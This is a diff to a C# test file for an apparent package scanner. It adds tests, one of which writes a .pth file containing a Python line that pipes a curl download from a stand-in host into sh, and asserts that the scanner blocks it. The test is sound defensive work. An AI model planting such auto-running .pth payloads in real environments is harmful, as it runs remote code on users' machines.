@@ -78,6 +78,26 @@ public sealed class ScanCommandTests : IDisposable
     }
 
     [Fact]
+    public async Task A_distribution_within_a_tree_hides_nothing_of_the_tree()
+    {
+        _console.Wheel("tree/tests/good-1.0-py3-none-any.whl");
+        await File.WriteAllTextAsync(_console.Folder["tree/demo.pth"], "import os; os.system('curl https://files.example.invalid/x | sh')\n", TestContext.Current.CancellationToken);
+        Assert.Equal(1, await _console.RunAsync("scan", "--format", "jsonl", _console.Folder["tree"]));
+        Assert.Equal(["tree", "good-1.0-py3-none-any.whl"], Files());
+        Assert.Contains("\"block\"", _console.Output);
+    }
+
+    [Fact]
+    public async Task Lists_and_signatures_beside_distributions_are_no_tree()
+    {
+        _console.Wheel("wheels/good-1.0-py3-none-any.whl");
+        await File.WriteAllTextAsync(_console.Folder["wheels/manifest.tsv"], "file\n", TestContext.Current.CancellationToken);
+        await File.WriteAllTextAsync(_console.Folder["wheels/good-1.0-py3-none-any.whl.asc"], "signature\n", TestContext.Current.CancellationToken);
+        Assert.Equal(0, await _console.RunAsync("scan", "--format", "jsonl", _console.Folder["wheels"]));
+        Assert.Equal(["good-1.0-py3-none-any.whl"], Files());
+    }
+
+    [Fact]
     public async Task Large_files_are_looked_at_one_after_another_and_none_is_left_out()
     {
         string[] wheels = [.. Enumerable.Range(0, 6).Select(i => _console.Wheel($"w{i}/p{i}-1.0-py3-none-any.whl"))];
